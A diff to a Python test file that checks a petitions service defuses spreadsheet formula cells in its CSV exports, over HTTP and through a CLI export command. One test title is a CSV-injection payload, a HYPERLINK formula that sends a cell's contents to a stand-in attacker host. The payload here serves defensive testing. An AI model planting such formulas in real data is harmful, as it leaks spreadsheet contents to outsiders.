@@ -1,6 +1,7 @@
 """Open data that tools read right: the Data Package descriptor, validated by frictionless
 and followed by pandas; timestamps to the second; CSV cells defused against spreadsheet
-formulas; and the exports' weak ETags, 304s and Cache-Control.
+formulas (the security review's title among them, over HTTP and through `pakn export`);
+and the exports' weak ETags, 304s and Cache-Control.
 
 Each database test runs on SQLite and PostgreSQL against a real server.
 """
@@ -8,12 +9,13 @@ Each database test runs on SQLite and PostgreSQL against a real server.
 from __future__ import annotations
 
 import contextlib
+import csv
 import importlib.util
 import io
 import re
 import subprocess
 import sys
-from datetime import datetime, timedelta
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -23,6 +25,7 @@ import pandas as pd
 import pytest
 
 from app import cli
+from app.services.csv_cells import FORMULA_STARTS
 from app.services.datapackage import DATETIME_FORMAT, LICENSE
 from app.services.export_columns import (
     COLUMNS,
@@ -34,6 +37,7 @@ from app.services.export_columns import (
 from db.models import PetitionerContact
 from tests.support.records import csv_records, ndjson_records
 from tests.support.server import RunningServer
+from tests.support.workflow import Workflow
 
 README = Path(__file__).resolve().parents[2] / "README.md"
 HAVE_JSONLINES = importlib.util.find_spec("jsonlines") is not None
@@ -291,3 +295,115 @@ def test_pakn_export_writes_a_descriptor_that_validates_offline(
     served = orjson.loads(demo_server.client.get("/export/datapackage.json").content)
     assert resource["schema"] == served["resources"][0]["schema"]
     assert validation_errors(str(descriptor)) == []
+
+
+# --- formula cells (issue 13, point 4) -------------------------------------
+
+REVIEW_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bam vao day")'
+"""The security review's title, as it submitted it."""
+FORMULA_TITLES = {
+    "=": REVIEW_TITLE,
+    "+": "+84 912 345 678: đường dây nóng của sở không ai nghe máy",
+    "-": "-2+3 ngày làm việc là thời hạn ghi trên phiếu hẹn, nay đã quá",
+    "@": "@SUM(1+1) biểu mẫu đăng ký kinh doanh trực tuyến không tải được",
+    "\t": "\t=1+1 cán bộ một cửa yêu cầu nộp thêm giấy tờ",
+    "\r": "\r-1+1 hồ sơ bị trả lại nhiều lần không rõ lý do",
+}
+"""A title per character a spreadsheet starts a formula with. Submission trims a leading
+tab or carriage return (`app.domain.validation.clean_text`), so no stored text starts
+with one; what follows them here is a formula all the same. Cells that do start with them
+are held to the rule without a database (test_csv_lines_are_what_the_csv_module_writes)."""
+FORMULA_BODY = "+1 " + "cán bộ không tiếp nhận hồ sơ và không giải thích lý do. " * 2
+
+
+def _formula_submissions(workflow: Workflow) -> tuple[str, dict[str, str]]:
+    """Submit FORMULA_TITLES (the `+` one with FORMULA_BODY); (the time just before,
+    {tracking code: the title as the API shows it})."""
+    started = (datetime.now(UTC) - timedelta(seconds=2)).isoformat()
+    titles = {}
+    for first, title in FORMULA_TITLES.items():
+        extra = {"body": FORMULA_BODY} if first == "+" else {}
+        petition = workflow.submit(title=title, **extra)["petition"]
+        titles[petition["trackingCode"]] = workflow.public_view(petition["trackingCode"])["title"]
+    return started, titles
+
+
+def test_formula_cells_are_neutralised_in_petitions_csv_at_once_and_not_in_ndjson(
+    workflow: Workflow,
+) -> None:
+    started, titles = _formula_submissions(workflow)
+    assert titles[next(iter(titles))] == REVIEW_TITLE
+    assert all(title[:1] in FORMULA_STARTS for title in titles.values())
+    params = {"submittedFrom": started}
+    client = workflow.server.client
+
+    raw = client.get("/export/petitions.csv", params=params).content
+    assert b'"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Bam vao day"")"' in raw
+    exported = {r["tracking_code"]: r for r in csv_records(raw)}
+    assert {code: exported[code]["title"] for code in titles} == {
+        code: "'" + title for code, title in titles.items()
+    }
+    plus = next(code for code, title in titles.items() if title.startswith("+84"))
+    assert exported[plus]["body"] == "'" + FORMULA_BODY.strip()
+
+    ndjson = ndjson_records(client.get("/export/petitions.ndjson", params=params).content)
+    as_stored = {r["tracking_code"]: r for r in ndjson}
+    assert {code: as_stored[code]["title"] for code in titles} == titles
+    assert as_stored[plus]["body"] == FORMULA_BODY.strip()
+
+
+def test_pakn_export_neutralises_formula_cells_as_the_http_export_does(
+    workflow: Workflow,
+    lifecycle_database: str,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    started, titles = _formula_submissions(workflow)
+    monkeypatch.setenv("PAKN_DATABASE_URL", lifecycle_database)
+    files = {}
+    for fmt in ("csv", "ndjson"):
+        files[fmt] = tmp_path / f"formulas.{fmt}"
+        args = ["--format", fmt, "--output", str(files[fmt]), "--from", started]
+        assert cli.main(["export", "petitions", *args]) == 0
+    written = {r["tracking_code"]: r for r in csv_records(files["csv"].read_bytes())}
+    assert {code: written[code]["title"] for code in titles} == {
+        code: "'" + title for code, title in titles.items()
+    }
+    served = workflow.server.client.get("/export/petitions.csv", params={"submittedFrom": started})
+    assert list(written.values()) == csv_records(served.content)
+    as_stored = {r["tracking_code"]: r for r in ndjson_records(files["ndjson"].read_bytes())}
+    assert {code: as_stored[code]["title"] for code in titles} == titles
+
+
+STATS_KEY = re.compile(r"[A-Z0-9]+(?:[_-][A-Z0-9]+)*|\d{4}-\d\d")
+
+
+def test_stats_csv_text_cells_are_codes_and_months_no_client_writes(
+    demo_server: RunningServer,
+) -> None:
+    """The statistics CSV's only text cells are `breakdown` (five fixed words) and `key`:
+    an agency, field or province code of the reference data (`app.domain.reference`,
+    seeded by `db.seed`; no request adds or renames one) or a month. None is written by a
+    client, so none can start like a formula; `stats_csv` defuses `key` all the same
+    (test_stats_csv_defuses_its_keys)."""
+    raw = demo_server.client.get("/export/stats.csv").content
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert {row["breakdown"] for row in rows} == {"total", "agency", "field", "province", "month"}
+    keys = [row["key"] for row in rows if row["breakdown"] != "total"]
+    assert keys and [key for key in keys if not STATS_KEY.fullmatch(key)] == []
+    assert not [key for key in keys if key[:1] in FORMULA_STARTS]
+    text = {f.name for f in STATS_FIELDS if f.type == "string"}
+    assert text == {"breakdown", "key"}
+
+
+def test_the_descriptor_states_the_formula_rule_for_the_csv_resources_only(
+    demo_server: RunningServer,
+) -> None:
+    package = orjson.loads(demo_server.client.get("/export/datapackage.json").content)
+    rule = "has a `'` put before it"
+    for resource in package["resources"]:
+        said = rule in resource["description"]
+        assert said == (resource["format"] == "csv"), resource["name"]
+        if said:
+            for first in ("`=`", "`+`", "`-`", "`@`", "a tab", "a carriage return"):
+                assert first in resource["description"]
